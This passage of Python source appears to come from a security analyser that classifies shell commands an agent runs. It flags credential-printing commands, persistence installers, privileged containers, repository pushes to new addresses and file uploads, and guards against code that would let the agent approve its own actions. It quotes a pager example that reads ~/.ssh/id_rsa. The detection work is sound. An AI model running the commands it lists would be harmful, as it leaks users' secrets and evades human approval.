            if isinstance(key, str) and fold_key(key) in _OLD_CONTENT_KEYS:
                continue
            _strings(child, out, depth + 1)
    elif isinstance(value, list | tuple):
        items = cast("Sequence[object]", value)
        for child in items:
            _strings(child, out, depth + 1)


_TREE_COPIERS = frozenset({"cp", "gcp", "rsync", "ditto"})
_GIT_RESTORES = frozenset({"git checkout", "git restore"})
# Details of the analyser's write of the directory a patch is applied in (`commands.py`).
_PATCHERS = frozenset({"git apply", "git am", "patch (the files the patch names)"})
_MAX_PATCH_FILE = 1024 * 1024  # bytes of a patch file read to find the files it names
_MAX_PATCHED = 256  # files named by patches of one command that are judged
# Details of the analyser's write of the directory an archive is extracted into.
_EXTRACTORS = frozenset({"tar extract", "bsdtar extract", "unzip"})
_MAX_ARCHIVE = 64 * 1024 * 1024  # an uncompressed tar or a zip listed (headers only)
_MAX_COMPRESSED_ARCHIVE = 1024 * 1024  # a compressed tar listed (read through whole)
_MAX_COPY_SOURCES = 16  # sources and destinations of one copy whose trees are walked


def _copies_trees(fact: CommandFact) -> bool:
    """Whether a copier copies directories whole: `ditto` always; `cp` and `rsync` with `-r`,
    `-R`, `-a` (alone or among other short flags) or their long forms."""
    if fact.name == "ditto":
        return True
    for arg in fact.argv[1:]:
        if arg in ("--recursive", "--archive"):
            return True
        if arg.startswith("-") and not arg.startswith("--") and any(c in arg for c in "rRa"):
            return True
    return False


def _rsync_excludes(argv: Sequence[str]) -> tuple[str, ...]:
    """The patterns of rsync's `--exclude PATTERN` / `--exclude=PATTERN` options that surely
    skip what they match: none when an include or filter rule could bring a path back (the
    first matching rule wins), and never one for directories only (`name/`) or with `**`."""
    out: list[str] = []
    for index, arg in enumerate(argv):
        if arg.startswith(("--include", "--filter", "-f", "-F", "-C", "--cvs-exclude")):
            return ()
        if arg == "--exclude" and index + 1 < len(argv):
            out.append(argv[index + 1])
        elif arg.startswith("--exclude="):
            out.append(arg.partition("=")[2])
    return tuple(p for p in out if p.strip("/") and not p.endswith("/") and "**" not in p)


def _excluded(name: str, patterns: tuple[str, ...]) -> bool:
    """Whether rsync skips the relative path `name` (or a directory above it) for one of
    `patterns`: one without a `/` matches a single component, one with a `/` the components
    that end at some level (from the top only, when it starts with `/`); `*` never crosses a
    `/`. Any doubt counts as not skipped, so nothing rsync copies goes unjudged."""
    parts = name.split("/")
    for pattern in patterns:
        anchored = pattern.startswith("/")
        want = pattern.strip("/").split("/")
        size = len(want)
        ends = range(size, size + 1) if anchored else range(size, len(parts) + 1)
        for end in ends:
            if end <= len(parts) and all(
                fnmatch.fnmatchcase(parts[end - size + k], want[k]) for k in range(size)
            ):
                return True
    return False


def _walk_tree(top: str) -> Iterator[tuple[str, str, bool]]:
    """(path, path relative to `top`, whether it is a directory walked into) for the entries
    below `top`, breadth-first, following no link, at most `_MAX_HELD_WALK` of them; package
    caches and git's objects (`_UNWALKED`) are listed but not entered."""
    pending = deque([(top, "")])
    seen = 0
    while pending:
        directory, prefix = pending.popleft()
        try:
            with os.scandir(directory) as entries:
                for entry in entries:
                    seen += 1
                    if seen > _MAX_HELD_WALK:
                        return
                    rel = prefix + entry.name
                    walked = entry.name not in _UNWALKED and entry.is_dir(follow_symlinks=False)
                    yield entry.path, rel, walked
                    if walked:
                        pending.append((entry.path, rel + "/"))
        except (OSError, ValueError):
            continue


def _deep_glob(path: str) -> tuple[str, str] | None:
    """`(ROOT, NAME)` for `ROOT/**/NAME`, what `find ROOT -name NAME` prints (NAME "" for
    `ROOT/**/**`), with a ROOT free of globs; else None."""
    head, _, leaf = path.rpartition("/")
    root, deep, rest = head.partition("/**")
    if not deep or rest or not root or _has_glob(root):
        return None
    return root, "" if leaf == "**" else leaf


def _is_recursive(fact: CommandFact) -> bool:
    if fact.name not in ("rm", "rmdir"):
        return False
    for arg in fact.argv[1:]:
        if arg in ("-r", "-R", "--recursive") or (
            arg.startswith("-") and not arg.startswith("--") and ("r" in arg or "R" in arg)
        ):
            return True
    return False


def _git_key_dangerous(key: str) -> bool:
    lowered = key.lower()
    if lowered in _GIT_DANGEROUS_KEYS:
        return True
    if lowered.startswith("submodule.") and lowered.endswith(".update"):
        return True  # a `!command` value runs on `git submodule update`
    if lowered.startswith("remote.") and lowered.endswith(_GIT_SAFE_REMOTE):
        return False
    if lowered.startswith("http.") and not lowered.endswith((".proxy", ".sslkey", ".sslcert")):
        return False
    return lowered.startswith(_GIT_DANGEROUS_PREFIXES) or lowered.endswith(_GIT_DANGEROUS_SUFFIXES)


def _git_one_shot_program(key: str) -> bool:
    """A pager or editor given with `git -c` for one command: nothing persists, and the shell
    analyser reads the value as a command of its own (`git -c core.pager=cat log` is everyday
    use; `git -c core.pager='cat ~/.ssh/id_rsa' log` is denied by what the pager would read)."""
    lowered = key.lower()
    return lowered in ("core.pager", "core.editor", "sequence.editor") or (
        lowered.startswith("pager.") and lowered.count(".") == 1
    )


def _git_clean_dry_run(args: list[str]) -> bool:
    """`git clean -n` / `--dry-run` lists what would go and deletes nothing. In a cluster of
    short options, letters after `e` are its pattern, not options (`-fen` excludes `n`)."""
    for arg in args:
        if arg in ("--dry-run", "--"):
            return arg == "--dry-run"
        if arg.startswith("-") and not arg.startswith("--"):
            cluster = arg[1:].split("e", 1)[0]
            if "n" in cluster:
                return True
    return False


_PASS_SAFE = frozenset({"ls", "list", "find", "search", "init", "insert", "generate", "rm", "mv"})


_CREDENTIAL_TOOLS = frozenset(
    {
        "gh", "gcloud", "aws", "az", "kubectl", "oc", "git", "security", "secret-tool", "op",
        "pass", "vault", "heroku", "doppler", "glab", "npm", "pnpm", "yarn", "gpg", "gpg2",
        "fly", "flyctl", "bw", "rbw", "lpass", "gopass", "keepassxc-cli", "sops",
        "ansible-vault",
    }
)  # fmt: skip
# gopass subcommands that print no secret (a bare entry name shows that entry, as in `pass`).
_GOPASS_SAFE = _PASS_SAFE | {
    "sync", "setup", "version", "help", "config", "audit", "fsck", "recipients", "mounts",
    "templates", "completion", "edit", "git",
}  # fmt: skip
# What `bw get KIND` prints a secret for (`bw list items`, `bw export` and `bw unlock`, which
# prints a session key, are read in `_prints_credentials`).
_BW_SECRET_KINDS = frozenset({"password", "item", "notes", "totp", "attachment", "exposed"})


_AWS_TOKEN_COMMANDS = frozenset(
    {
        ("sts", "get-session-token"), ("sts", "assume-role"), ("sts", "get-federation-token"),
        ("sts", "assume-role-with-web-identity"), ("sso", "get-role-credentials"),
        ("ecr", "get-login-password"), ("ecr-public", "get-login-password"),
        ("codeartifact", "get-authorization-token"),
    }
)  # fmt: skip


def _daemon_option(args: list[str]) -> str:
    """The remote daemon `docker -H ADDRESS` / `--host=ADDRESS` names, or ""."""
    for _, at, offset in option_values(args, ("-h", "--host")):  # `args` are lower-cased
        value = args[at][offset:]
        if _remote_daemon(value):
            return value
    return ""


def _remote_daemon(address: str) -> bool:
    """Whether a `DOCKER_HOST` value is a daemon on another machine (`tcp://`, `ssh://`)."""
    scheme, sep, rest = address.partition("://")
    if not sep or scheme.lower() not in ("tcp", "ssh", "http", "https"):
        return False
    host = rest.rsplit("@", 1)[-1].split("/", 1)[0]
    host = host.rsplit(":", 1)[0] if host.count(":") == 1 else host
    return bool(host.strip("[]")) and not _is_loopback(host.strip("[]"))


def _short_flag(args: list[str], letters: str, *, takes_value: str) -> bool:
    """Whether one of the single-letter options `letters` is given, alone (`-w`) or in a
    cluster (`-wa NAME`): the letters of a cluster are options up to the first one that takes
    a value (`takes_value`), whose value is the rest of the word (`-aw` is `-a w`)."""
    for arg in args:
        if len(arg) < 2 or arg[0] != "-" or arg[1] == "-":
            continue
        for ch in arg[1:]:
            if ch in letters:
                return True
            if ch in takes_value:
                break
    return False


def _prints_credentials(name: str, args: list[str]) -> bool:
    """Commands whose output is a stored credential (`builtin:credential-commands`); `args`
    are lowercased. Listing commands (`kubectl get secrets`, `gh auth status`) stay allowed."""
    if name not in _CREDENTIAL_TOOLS and not name.startswith("docker-credential-"):
        return False  # most commands: no lists built on the hot path
    words = [a for a in args if not a.startswith("-")]
    flags = set(args)
    first2 = words[:2]
    if name in ("gh", "glab"):
        return first2 == ["auth", "token"] or (
            first2 == ["auth", "status"]
            and ("--show-token" in flags or _short_flag(args, "t", takes_value="h"))
        )
    if name == "gcloud":
        return (
            any(w in ("print-access-token", "print-identity-token") for w in words)
            or first2 == ["config", "config-helper"]
            or ("secrets" in words and "versions" in words and "access" in words)
        )
    if name in ("npm", "pnpm", "yarn"):
        # `npm config get //registry.npmjs.org/:_authToken` prints the registry token (yarn's
        # key is `npmAuthToken`), and `npm token create` prints a new one.
        return first2 == ["token", "create"] or (
            first2 == ["config", "get"]
            and any(w.endswith(("authtoken", ":_auth", "_password")) for w in words[2:])
        )
    if name in ("gpg", "gpg2"):
        return bool(flags & {"--export-secret-keys", "--export-secret-subkeys"})
    if name in ("fly", "flyctl"):
        return first2 == ["auth", "token"]
    if name == "doppler":
        return words[:1] == ["secrets"] and ("get" in words or "download" in words)
    if name == "aws":
        if first2 == ["configure", "export-credentials"]:
            return True
        if "secretsmanager" in words and "get-secret-value" in words:
            return True
        if "ssm" in words and "--with-decryption" in flags:
            return True
        if first2 == ["configure", "get"]:
            return any("secret" in w or "session_token" in w for w in words[2:])
        # Commands whose output is a token or a set of temporary keys (global options with a
        # value, `--region us-east-1`, may come first).
        return any(pair in _AWS_TOKEN_COMMANDS for pair in itertools.pairwise(words))
    if name == "az":
        if first2 == ["acr", "login"] and "--expose-token" in flags:
            return True
        return first2 == ["account", "get-access-token"] or (
            "keyvault" in words and "secret" in words and ("show" in words or "download" in words)
        )
    if name in ("kubectl", "oc"):
        if first2 == ["config", "view"]:
            return "--raw" in flags
        if first2 == ["create", "token"]:
            return True
        return (
            words[:1] == ["get"]
            and len(words) > 1
            and words[1].split("/")[0] in ("secret", "secrets")
            and any(a in ("-o", "--output") or a.startswith(("-o", "--output=")) for a in args)
            and not any(a.endswith("name") for a in args)
        )
    if name == "git":
        return first2 == ["credential", "fill"] or (
            bool(words) and words[0].startswith("credential-") and "get" in words
        )
    if name.startswith("docker-credential-"):
        return "get" in words
    if name == "security":
        if words[:1] == ["dump-keychain"]:
            return True
        # `-w` prints the password, `-g` the item with it; `-wa NAME` is `-w -a NAME`.
        return (
            bool(words)
            and words[0].startswith("find-")
            and _short_flag(args, "wg", takes_value="acdjlprst")
        )
    if name == "secret-tool":
        return words[:1] == ["lookup"]
    if name == "op":
        return words[:1] == ["read"] or (first2 == ["item", "get"] and "--reveal" in flags)
    if name == "pass":
        return bool(words) and words[0] not in _PASS_SAFE
    if name == "vault":
        return words[:1] == ["read"] or first2 == ["kv", "get"]
    if name == "bw":
        return (
            (words[:1] == ["get"] and len(words) > 1 and words[1] in _BW_SECRET_KINDS)
            or first2 == ["list", "items"]
            or words[:1] in (["export"], ["unlock"])
        )
    if name == "rbw":
        return words[:1] in (["get"], ["code"])
    if name == "lpass":
        return words[:1] in (["show"], ["export"])
    if name == "gopass":  # like `pass`: a bare name shows that entry
        return bool(words) and words[0] not in _GOPASS_SAFE
    if name == "keepassxc-cli":
        return words[:1] == ["export"] or (
            words[:1] == ["show"]
            and (
                bool(flags & {"--show-protected", "--totp"})
                or _short_flag(args, "st", takes_value="aky")  # `-qs`, `-t`: a cluster too
                or "password" in args
            )
        )
    if name == "sops":  # decrypted onto the output (not `-i` in place, not `--output FILE`)
        decrypts = "-d" in flags or "--decrypt" in flags or words[:1] == ["decrypt"]
        return decrypts and not flags & {"-i", "--in-place", "--output"}
    if name == "ansible-vault":
        return words[:1] == ["view"]
    return name == "heroku" and words[:1] == ["auth:token"]


def _installs_persistence(name: str, args: list[str]) -> bool:
    if name == "crontab":
        rest = [a for a in args if a not in ("-u",)]
        return not (rest and all(a == "-l" or not a.startswith("-") for a in rest) and "-l" in rest)
    if name in ("at", "batch"):
        return bool(args) and not all(a in ("-l", "-q") for a in args)
    if name == "systemctl":
        return any(
            a in ("enable", "link", "edit", "set-property", "add-wants", "preset") for a in args
        )
    if name == "launchctl":
        return any(a in ("load", "bootstrap", "submit", "enable") for a in args)
    return name in ("update-rc.d", "chkconfig", "schtasks")


_HOST_CAPS = frozenset(
    {"all", "sys_admin", "sys_ptrace", "sys_module", "sys_rawio", "dac_read_search"}
)
_DAEMON_SOCKETS = ("docker.sock", "podman.sock", "containerd.sock", "buildkitd.sock")


def _host_access(name: str, args: list[str]) -> str:
    """Why a command hands the host to what it runs, or "": a container that shares the
    host's processes or drops its confinement (`--privileged`, `--pid=host`, `--cap-add
    SYS_ADMIN`, `--security-opt ...=unconfined`), or a request to a container daemon's socket
    (which can start such a container, or mount `/`)."""
    if name in _SENDERS:
        # socat writes `UNIX-CONNECT:/run/docker.sock,retry=3`: the address ends at a comma.
        if any(a.split(",", 1)[0].removesuffix(":").endswith(_DAEMON_SOCKETS) for a in args):
            return "talks to a container daemon's socket, which controls the host"
        return ""
    if name not in CONTAINER_ENGINES:
        return ""
    for index, arg in enumerate(args):
        key, eq, value = arg.partition("=")
        if not eq and index + 1 < len(args):
            value = args[index + 1]
        if arg == "--privileged":
            return "runs a privileged container (the host's devices and no confinement)"
        if key in ("--pid", "--userns", "--cgroupns") and value == "host":
            return f"runs a container with the host's {key[2:]} namespace"
        if key == "--cap-add" and value in _HOST_CAPS:
            return f"gives a container the {value.upper()} capability"
        if key == "--security-opt" and "unconfined" in value:
            return "runs a container without its security profile"
    return ""


def _remote_url(word: str) -> bool:
    """Whether a git repository argument names another machine (a URL or `host:path`), not a
    remote's name or a local path."""
    if "://" in word:
        return not word.startswith("file://")
    head, colon, _ = word.partition(":")
    return bool(colon) and "/" not in head and ("@" in head or "." in head)


def _git_destination(args: list[str]) -> str:
    """Why a git command sends the repository to a destination written on the line, or "":
    `git push URL`, `git push --repo=URL`, or pointing a remote (`git remote set-url`, `git
    remote add`, `git config remote.X.url`, `git -c remote.X.pushurl=...`) at a new address."""
    sub, after = git_subcommand(tuple(args))
    rest = list(after)
    before = args[: len(args) - len(rest)]
    for index, arg in enumerate(before):
        if arg == "-c" and index + 1 < len(before):
            key = before[index + 1].partition("=")[0]
            if key.startswith("remote.") and key.endswith((".url", ".pushurl")):
                return f"points remote {key} at a new address"
    if sub == "push":
        for arg in rest:
            if arg.startswith("--repo="):
                return "pushes to an address given on the command line"
            if not arg.startswith("-"):
                return "pushes to an address given on the command line" if _remote_url(arg) else ""
    if sub == "remote" and rest[:1] == ["set-url"]:
        return "points a remote at a new address"
    # A remote added for fetching is pushed to as easily, by name, in the next call: the same
    # new address `git config remote.X.url` would give it. A local path is no upload. (Any
    # word counts: `-t BRANCH` and `-m HEAD` take values before the name and the address.)
    if (
        sub == "remote"
        and rest[:1] == ["add"]
        and any(_remote_url(a) for a in rest[1:] if not a.startswith("-"))
    ):
        return "adds a remote at a new address, which pushes by name then go to"
    if sub == "send-email" and not {"--dry-run", "--help", "-h"} & set(rest):
        return "mails commits out"
    if sub == "config":
        keys = [a for a in rest if not a.startswith("-")]
        if (
            len(keys) >= 2
            and keys[0].startswith("remote.")
            and keys[0].endswith((".url", ".pushurl"))
        ):
            return f"points remote {keys[0]} at a new address"
    return ""


# Node options that load no code and open no port to others: heap and stack sizes, warnings,
# source maps, and the debugger on loopback only. Anything else (`--require`, `--import`,
# `--loader`, `--inspect=0.0.0.0:...`, a variable) keeps NODE_OPTIONS denied.
_NODE_INERT_VALUES = ("--max-old-space-size=", "--max-semi-space-size=", "--stack-size=")
_NODE_INERT_FLAGS = frozenset(
    {
        "--enable-source-maps", "--no-warnings", "--trace-warnings", "--trace-deprecation",
        "--no-deprecation", "--trace-uncaught", "--openssl-legacy-provider",
        "--experimental-vm-modules", "--inspect", "--inspect-brk",
    }
)  # fmt: skip


def _assignment_cwds(
    analysis: ShellAnalysis, name: str, value: str, cwd: str | None
) -> Iterable[str | None]:
    """The directories a relative entry of a library search path is taken from: the program
    reads it from where it runs, so that is the directory of the command that carries it
    (`X=v cmd`), and for `export X=v` or a bare `X=v` any directory the line runs in."""
    if name.upper() not in _LIBRARY_PATHS:
        return ()
    carriers = {f.cwd for f in analysis.commands if (name, value) in f.env}
    return carriers or {cwd, *(f.cwd for f in analysis.commands)}


def _inert_node_options(value: str) -> bool:
    words = value.split()
    for word in words:
        if word in _NODE_INERT_FLAGS:
            continue
        flag, eq, number = word.partition("=")
        if eq and flag + "=" in _NODE_INERT_VALUES and number.isdigit():
            continue
        if flag in ("--inspect", "--inspect-brk") and eq and number.isdigit():
            continue  # a port on the loopback default
        return False
    return bool(words)


def _drives_the_kernel(code: str) -> bool:
    """Interpreter code that loads CrustCore's kernel client or admin commands (it could take
    the admin role, as the CLI does, and resolve its own approvals)."""
    lowered = code.lower()
    return "crustcore_nano" in lowered and ("daemon" in lowered or "admin" in lowered)


def _crustcore_cli(argv: Sequence[str]) -> Sequence[str] | None:
    """The arguments of a `crustcore` CLI run, however it is started: by name or path, or as
    `python -m crustcore_nano ...` (runners such as `uv run` and `uvx` are unwrapped by the
    shell analyser first); None when the command is not the CLI."""
    if not argv:
        return None
    program = os.path.basename(argv[0]).lower()
    if program == "crustcore":
        return argv[1:]
    if program.startswith(("python", "pypy")):
        for index, arg in enumerate(argv[1:8], start=1):
            module = argv[index + 1] if arg == "-m" and index + 1 < len(argv) else ""
            if arg.startswith("-m") and len(arg) > 2:
                module = arg[2:]
            if module.split(".")[0].lower() == "crustcore_nano":
                return argv[index + (1 if len(arg) > 2 else 2) :]
    return None


def _dry_run(args: list[str]) -> bool:
    """`npm publish --dry-run` (and the same flag of cargo, poetry, uv, ...) uploads nothing.
    The flag must stand alone, not be the value of an option before it."""
    return any(
        arg == "--dry-run" and (index == 0 or args[index - 1] not in _PUBLISH_VALUE_OPTS)
        for index, arg in enumerate(args)
    )


_PUBLISH_VALUE_OPTS = frozenset({"--otp", "--tag", "--access", "--registry", "--token"})


def _reversibility(name: str, args: list[str], fact: CommandFact) -> str | None:
    if name == "git":
        # The subcommand comes after git's own options, some of which take a value
        # (`git -C . push --force`, `git -c k=v reset --hard`).
        sub, after = git_subcommand(tuple(args))
        rest = list(after)
        if sub == "push" and any(
            a in ("--force", "-f", "--force-with-lease", "--mirror", "--delete", "-d")
            or a.startswith(("--force-with-lease=", "+", ":"))
            for a in rest
        ):
            return "approval:force-push"
        if sub == "reset" and "--hard" in rest:
            return "approval:history-rewrite"
        if (
            sub == "clean"
            and any(a.startswith("-") and "f" in a.lstrip("-") for a in rest)
            and not _git_clean_dry_run(rest)
        ):
            return "approval:history-rewrite"
        if sub in ("filter-branch", "filter-repo") or (sub == "stash" and "clear" in rest):
            return "approval:history-rewrite"
        if sub == "checkout" and ("-f" in rest or "--force" in rest):
            return "approval:history-rewrite"
        if sub == "reflog" and "expire" in rest:
            return "approval:history-rewrite"
        return None
    publish = _PUBLISH.get(name)
    if publish is not None:
        joined = " ".join(args)
        if any(joined.startswith(p) or f" {p}" in f" {joined}" for p in publish):
            if name in ("docker", "podman") and (not args or args[0] != "push"):
                return None
            if _dry_run(args):
                return None
            return "approval:publish"
    if name == "gh" and args[:2] in (["release", "create"], ["repo", "delete"]):
        return "approval:publish" if args[0] == "release" else "approval:destroy"
    return _destroys(name, args, fact)


def _destroys(name: str, args: list[str], fact: CommandFact) -> str | None:
    if name in ("terraform", "tofu", "terragrunt") and (
        "destroy" in args or ("apply" in args and "-auto-approve" in args)
    ):
        return "approval:destroy"
    if name in ("kubectl", "oc") and args[:1] == ["delete"]:
        return "approval:destroy"
    if name == "helm" and args[:1] in (["uninstall"], ["delete"]):
        return "approval:destroy"
    if name in ("docker", "podman") and args[:2] in (
        ["system", "prune"],
        ["volume", "rm"],
        ["volume", "prune"],
    ):
        return "approval:destroy"
    if name == "aws" and (
        any(a.startswith("delete-") or a.startswith("terminate-") for a in args)
        or (args[:2] == ["s3", "rm"] and "--recursive" in args)
        or args[:2] == ["s3", "rb"]
    ):
        return "approval:destroy"
    if name == "gcloud" and "delete" in args:
        return "approval:destroy"
    if name in ("shred", "wipe", "srm"):
        return "approval:destroy"
    if name == "redis-cli" and any(a in ("flushall", "flushdb") for a in args):
        return "approval:destroy"
    if name in ("psql", "mysql", "sqlite3", "mariadb", "clickhouse-client", "cockroach"):
        text = " ".join(args)
        if any(k in text for k in _SQL_DESTROY):
            return "approval:destroy"
    if name == "dropdb":
        return "approval:destroy"
    del fact
    return None


def _sends(fact: CommandFact) -> bool:
    """Whether a command sends data to another machine: a network client with a destination,
    or a command that uploads a file (`aws s3 cp FILE s3://...`, `gh gist create FILE`)."""
    if fact.name.lower() in _SENDERS and fact.network:
        return True
    return any(s.detail == UPLOAD for s in fact.operations)


_SUBSTITUTIONS = frozenset({"$()", "``"})
# Programs whose configuration under HOME (or XDG_CONFIG_HOME) can name commands they run:
# git (`core.pager`, `core.fsmonitor`, `core.sshCommand`, `!` aliases), ssh (`ProxyCommand`,
# `LocalCommand`), npm and its kin (`script-shell`), pip (`index-url`).
_HOME_CONFIGURED = frozenset(
    {"git", "ssh", "scp", "sftp", "rsync", "npm", "npx", "pnpm", "yarn", "pip", "pip3"}
)
# Clients that send what arrives on their standard input to their destination: the socket
# tools, ssh (to the remote command) and HTTPie (a piped body).
_STDIN_SENDERS = SOCKET_TOOLS | {"ssh", "http", "https", "xh", "httpie"}
_STDIN_DATA = ("@-", "@/dev/stdin")


def _stdin_targets(fact: CommandFact) -> tuple[NetworkTarget, ...]:
    """Where a network client that sends its standard input sends it, or () when it sends
    none: a socket tool, `ssh` (to the remote command), HTTPie (a piped body), curl told to
    (`-T -`, `-d @-`, `-F f=@-`), wget (`--post-file=/dev/stdin`), and interpreter code that
    reads its input and talks to the network (`python3 -c '...sys.stdin...urlopen(...)'`)."""
    name = fact.name.lower()
    if name in _STDIN_SENDERS:
        return fact.network
    code = fact.code
    if code is not None:
        if code.network and any(m in code.code for m in _STDIN_READS):
            return code.network
        return ()
    argv = fact.argv[1:]
    if name == "curl":
        for index, arg in enumerate(argv):
            if arg in ("-T", "--upload-file") and argv[index + 1 : index + 2] in (("-",), (".",)):
                return fact.network
            if arg in ("--upload-file=-", "--upload-file=.") or arg.endswith(_STDIN_DATA):
                return fact.network
        return ()
    if name == "wget" and any(a.endswith("/dev/stdin") for a in argv):
        return fact.network
    return ()


# Programs that run as code the words (or here-string) a substitution fills.
_CODE_RUNNERS = _INTERPRETERS | {"eval", "source", "."}


def _fed_substitutions(
    analysis: ShellAnalysis,
) -> Iterator[tuple[CommandFact, list[CommandFact]]]:
    """Each command of the line that is not inside a substitution, with the substitution
    commands that filled its words: they come before it, one level deeper. One for an
    assignment (`v=$(cat VERSION)`) fills no command's words and goes to the next command of
    its level, which may use the variable (`bash -c "$v"`)."""
    pending: list[CommandFact] = []
    for fact in analysis.commands:
        if fact.context in _SUBSTITUTIONS:
            pending.append(fact)
            continue
        mine = [p for p in pending if p.depth == fact.depth + 1]
        if mine:
            pending = [p for p in pending if p.depth != fact.depth + 1]
        yield fact, mine


def _fills_words(fact: CommandFact, *, here: bool) -> bool:
    """Whether a substitution fills one of the command's words (or, with `here`, its
    here-string)."""
    for arg, exact in zip(fact.argv, fact.argv_exact, strict=False):
        if not exact and ("$(" in arg or "`" in arg):
            return True
    return here and any(r.op == "<<<" and "$(" in r.target for r in fact.redirects)


def _first_read(fact: CommandFact) -> str | None:
    """The first file a command reads, or None."""
    return next((o.target for o in fact.operations if o.kind is ShellOp.READ), None)


def _fetches_remote(fact: CommandFact) -> bool:
    """A download tool with a destination that is not this machine."""
    return fact.name.lower() in FETCHERS and any(not _is_loopback(t.host) for t in fact.network)


def _slurped(fact: CommandFact) -> list[str]:
    """Files a command's words or here-strings read with bash's `$(< FILE)`, which runs no
    command of its own (so no substitution fact holds the read)."""
    out: list[str] = []
    for text in (*fact.argv[1:], *(r.target for r in fact.redirects if r.op == "<<<")):
        at = text.find("$(<")
        while at >= 0 and len(out) < 8:
            end = text.find(")", at)
            name = text[at + 3 : end if end > 0 else len(text)].strip()
            if name:
                out.append(name)
            at = text.find("$(<", at + 3)
    return out


# How interpreter code reads its standard input.
_STDIN_READS = (
    "sys.stdin", "fileinput", "process.stdin", "readFileSync(0", "readFileSync('/dev/stdin'",
    'readFileSync("/dev/stdin"', "STDIN", "$stdin", "ARGF", "php://stdin", "io.read",
    "/dev/stdin",
)  # fmt: skip


def _repository_output(fact: CommandFact) -> str | None:
    """The words "the repository" when a git command writes the repository's content to its
    output (`git archive`, `git bundle create`, `git format-patch --stdout`), else None."""
    if fact.name != "git":
        return None
    sub, _ = git_subcommand(tuple(a.lower() for a in fact.argv[1:]))
    return "the repository" if sub in ("archive", "bundle", "format-patch") else None


def _uploaded_files(fact: CommandFact) -> list[str]:
    """Local files a network client sends (not files it merely reads for configuration)."""
    name = fact.name.lower()
    argv = list(fact.argv[1:])
    reads = [s.target for s in fact.operations if s.kind is ShellOp.READ]
    if name in _REMOTE_COPY:  # all but a transfer script (`sftp -b FILE`), which is not sent
        return [
            s.target
            for s in fact.operations
            if s.kind is ShellOp.READ and s.detail != TRANSFER_SCRIPT
        ]
    out = [s.target for s in fact.operations if s.kind is ShellOp.READ and s.detail == UPLOAD]
    for redirect in fact.redirects:
        if redirect.kind is ShellOp.READ and redirect.target not in ("/dev/null",):
            out.append(redirect.target)
    if name in ("curl",):
        data_opts = ("-d", "--data", "--data-binary", "--data-urlencode", "--json", "-F", "--form")
        for index, arg in enumerate(argv):
            value: str | None = None
            if arg in data_opts and index + 1 < len(argv):
                value = argv[index + 1]
            elif arg in ("-T", "--upload-file") and index + 1 < len(argv):
                out.append(argv[index + 1])
                continue
            elif arg in ("-H", "--header") and index + 1 < len(argv):
                if argv[index + 1].startswith("@"):  # header lines read from a file
                    out.append(argv[index + 1][1:])
                continue
            elif arg.startswith(("--data=", "--data-binary=", "--form=", "--upload-file=")):
                value = arg.split("=", 1)[1]
                if arg.startswith("--upload-file="):
                    out.append(value)
                    continue
            elif arg.startswith(("-d@", "-F")) and len(arg) > 2:
                value = arg[2:]
            if value is None:
                continue
            at = value.find("@")
            if at >= 0 and (at == 0 or value[:at].endswith("=") or "=" in value[:at]):
                target = value[at + 1 :].split(";", 1)[0]
                if target:
                    out.append(target)
    if name == "wget":
        for index, arg in enumerate(argv):
            if arg in ("--post-file", "--body-file") and index + 1 < len(argv):
                out.append(argv[index + 1])
            elif arg.startswith(("--post-file=", "--body-file=")):
                out.append(arg.split("=", 1)[1])
            elif arg.startswith(("-e", "--execute")):
                # `-e CMD`, `-eCMD`, `--execute CMD`, `--execute=CMD`
                joined = arg[2:] if arg.startswith("-e") else arg[len("--execute") :]
                command = joined.removeprefix("=") if joined else None
                if command is None and index + 1 < len(argv):
                    command = argv[index + 1]
                found = wgetrc_option(command) if command else None
                if found is not None and found[0] in ("--post-file", "--body-file"):
                    out.append(found[1])
    return _match_reads(out, reads)


def _match_reads(named: Iterable[str], reads: list[str]) -> list[str]:
    """Prefer the analyser's resolved spelling of a named file (it joined the cwd)."""
    out: list[str] = []
    for item in named:
        match = next((r for r in reads if r == item or r.endswith("/" + item.lstrip("./"))), None)
        out.append(match if match is not None else item)
    return out
